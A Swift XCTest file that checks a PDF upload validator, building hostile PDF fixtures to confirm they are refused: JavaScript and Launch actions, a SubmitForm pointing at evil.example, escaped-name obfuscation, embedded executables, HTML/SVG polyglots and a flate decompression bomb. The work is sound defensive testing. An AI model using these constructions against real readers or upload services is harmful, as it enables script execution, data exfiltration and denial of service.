import Domain
import Foundation
import PDFValidation
import XCTest

@testable import PDF

/// What OFPRA may deposit: a PDF qpdf reads cleanly, with no active content, no attachment,
/// no HTML a browser could sniff and a bounded decoded size.
final class UploadValidationTests: XCTestCase {
    func check(_ bytes: [UInt8]) -> PDFCheck.Problem? { PDFValidator.problem(in: bytes) }

    // MARK: what must still pass

    func testPlainPDFsPass() {
        XCTAssertNil(check(HostilePDF.build()))
        // Links to a web page are ordinary in letters (the documents are served sandboxed).
        XCTAssertNil(
            check(
                HostilePDF.build(
                    page: "/Annots [6 0 R]",
                    extra: [
                        Array(
                            "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://www.ofpra.gouv.fr) >> >>".utf8)
                    ])))
        // A plain form (no script, no submission) is allowed.
        XCTAssertNil(check(HostilePDF.build(catalog: "/AcroForm << /Fields [] >>")))
    }

    func testLettersMadeByLibharuPass() throws {
        let letter = try LetterRenderer.render(Fixtures.decision, creationDate: Fixtures.date)
        XCTAssertNil(check(letter))
        XCTAssertEqual(PDFValidator.findings(in: letter).warnings, 0)
        let long = try LetterRenderer.render(
            Fixtures.letter(paragraphs: (0..<12).map { _ in Fixtures.prose(words: 120) }),
            creationDate: Fixtures.date)
        XCTAssertNil(check(long))
        XCTAssertNil(check(try LetterRenderer.render(Fixtures.decision, typeface: .helvetica, creationDate: Fixtures.date)))
        XCTAssertNil(check(try ReceiptRenderer.render(Fixtures.receipt, creationDate: Fixtures.date)))
    }

    func testAStreamUnderTheBoundPasses() {
        let big = HostilePDF.build(content: HostilePDF.stream(HostilePDF.zeros(count: 40 << 20), dictionary: "/Filter /FlateDecode"))
        XCTAssertNil(check(big), "40 MiB decoded is under the 64 MiB bound")
    }

    // MARK: active content

    func testJavaScriptAndAutomaticActionsAreRefused() {
        let cases: [(String, [UInt8])] = [
            ("JavaScript open action", HostilePDF.build(catalog: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
            ("open action without script", HostilePDF.build(catalog: "/OpenAction [3 0 R /Fit]")),
            (
                "document-level script",
                HostilePDF.build(
                    catalog: "/Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
                    extra: [
                        Array("<< /S /JavaScript /JS 7 0 R >>".utf8), HostilePDF.stream(Array("app.alert(1)".utf8)),
                    ])
            ),
            ("page additional action", HostilePDF.build(page: "/AA << /O << /S /JavaScript /JS (x) >> >>")),
            (
                "launch link",
                HostilePDF.build(
                    page: "/Annots [6 0 R]",
                    extra: [
                        Array(
                            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>".utf8)
                    ])
            ),
            (
                "submit form",
                HostilePDF.build(
                    page: "/Annots [6 0 R]",
                    extra: [
                        Array(
                            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>".utf8)
                    ])
            ),
            ("import data", HostilePDF.build(catalog: "/OpenAction 6 0 R", extra: [Array("<< /S /ImportData /F (x.fdf) >>".utf8)])),
            (
                "XFA form",
                HostilePDF.build(
                    catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>",
                    extra: [
                        HostilePDF.stream(Array("<xdp:xdp><template/></xdp:xdp>".utf8))
                    ])
            ),
        ]
        for (name, pdf) in cases {
            XCTAssertNil(PDFCheck.problem(in: pdf), "\(name): the bytes alone look fine")
            XCTAssertEqual(check(pdf), .activeContent, name)
        }
    }

    func testEscapedNamesAreSeenThroughByTheParser() {
        // `#53` is "S": no byte search for "/JavaScript" finds this, a PDF reader does.
        let pdf = HostilePDF.build(catalog: "/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>")
        XCTAssertFalse(String(decoding: pdf, as: UTF8.self).contains("/JavaScript"))
        XCTAssertEqual(check(pdf), .activeContent)
    }

    func testEmbeddedFilesAndMultimediaAreRefused() {
        let cases: [(String, [UInt8])] = [
            (
                "embedded file",
                HostilePDF.build(
                    catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
                    extra: [
                        Array("<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>".utf8),
                        HostilePDF.stream(Array("MZ".utf8), dictionary: "/Type /EmbeddedFile"),
                    ])
            ),
            (
                "file attachment annotation",
                HostilePDF.build(
                    page: "/Annots [6 0 R]",
                    extra: [
                        Array(
                            "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.txt) >> >>".utf8)
                    ])
            ),
            (
                "rich media",
                HostilePDF.build(
                    page: "/Annots [6 0 R]",
                    extra: [
                        Array(
                            "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>".utf8)
                    ])
            ),
        ]
        for (name, pdf) in cases { XCTAssertEqual(check(pdf), .attachments, name) }
    }

    // MARK: polyglots and damage

    func testHTMLPolyglotsAndLeadingBytesAreRefused() {
        XCTAssertEqual(check(HostilePDF.build(header: "%PDF-1.7\n%<html><script>alert(document.cookie)</script>\n")), .polyglot)
        XCTAssertEqual(check(Array("<!DOCTYPE html><BODY onload=alert(1)>\n".utf8) + HostilePDF.build()), .polyglot)
        XCTAssertEqual(check(HostilePDF.build(extra: [HostilePDF.stream(Array("<svg onload=alert(1)>".utf8))])), .polyglot)
        XCTAssertEqual(check(Array("GIF89a;\n".utf8) + HostilePDF.build()), .notPDF, "bytes before %PDF-")
    }

    func testDamagedFilesAreRefusedRatherThanRepaired() {
        let good = HostilePDF.build()
        // A wrong xref offset: readers would rebuild the table, each in its own way.
        var text = String(decoding: good, as: UTF8.self)
        let firstEntry = text.range(of: "0000000015 00000 n")!
        text.replaceSubrange(firstEntry, with: "0000000099 00000 n")
        XCTAssertEqual(check(Array(text.utf8)), .damaged)
        // A wrong stream length.
        let badLength = HostilePDF.build(content: Array("<< /Length 5 >>\nstream\nBT /F1 18 Tf (abcdefgh) Tj ET\nendstream".utf8))
        XCTAssertEqual(check(badLength), .damaged)
        XCTAssertEqual(check(Array("%PDF-1.7\nnot a pdf at all, but it has the marks\n%%EOF\n".utf8)), .damaged)
        XCTAssertNotNil(PDFValidator.findings(in: Array("%PDF-1.7\nnothing\n%%EOF\n".utf8)).detail, "qpdf's reason, for the log")
    }

    func testEncryptedFilesAreRefused() throws {
        let plain = HostilePDF.build()
        XCTAssertEqual(check(try qpdf(plain, ["--encrypt", "", "owner", "256", "--"])), .encrypted, "empty user password")
        let locked = try qpdf(plain, ["--encrypt", "secret", "owner", "256", "--"])
        XCTAssertTrue(PDFValidator.findings(in: locked).needsPassword)
        XCTAssertEqual(check(locked), .encrypted)
    }

    // MARK: decompression bombs

    func testAFlateBombIsStoppedAtTheBound() {
        let bomb = HostilePDF.build(content: HostilePDF.stream(HostilePDF.zeros(count: 1 << 30), dictionary: "/Filter /FlateDecode"))
        XCTAssertLessThan(bomb.count, 7 << 20, "1 GiB of zeros in under 7 MB: an upload the size limit accepts")
        XCTAssertNil(PDFCheck.problem(in: bomb))
        let start = Date()
        XCTAssertEqual(check(bomb), .tooExpanded)
        XCTAssertLessThan(Date().timeIntervalSince(start), 10, "decoding stops at 64 MiB, it does not inflate 1 GiB")
    }

    func testTheBoundIsARunningTotalOverAllStreams() {
        let half = HostilePDF.stream(HostilePDF.zeros(count: 40 << 20), dictionary: "/Filter /FlateDecode")
        let two = HostilePDF.build(page: "/Resources << /XObject << /A 6 0 R /B 7 0 R >> >>", extra: [half, half])
        XCTAssertEqual(check(two), .tooExpanded, "two 40 MiB streams are 80 MiB in all")
    }

    func testPolicyOrder() {
        XCTAssertEqual(PDFCheck.problem(with: .init(parsed: false, needsPassword: true)), .encrypted)
        XCTAssertEqual(PDFCheck.problem(with: .init(parsed: true, warnings: 1)), .damaged)
        XCTAssertEqual(PDFCheck.problem(with: .init(parsed: true, names: ["/JS", "/EmbeddedFiles"])), .activeContent)
        XCTAssertNil(PDFCheck.problem(with: .init(parsed: true, names: [])))
    }

    /// The qpdf command line (package `qpdf`), only to make encrypted fixtures.
    func qpdf(_ input: [UInt8], _ arguments: [String]) throws -> [UInt8] {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("qpdf-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let inURL = dir.appendingPathComponent("in.pdf")
        let outURL = dir.appendingPathComponent("out.pdf")
        try Data(input).write(to: inURL)
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/qpdf")
        p.arguments = arguments + [inURL.path, outURL.path]
        try p.run()
        p.waitUntilExit()
        XCTAssertEqual(p.terminationStatus, 0, "qpdf \(arguments)")
        return Array(try Data(contentsOf: outURL))
    }
}
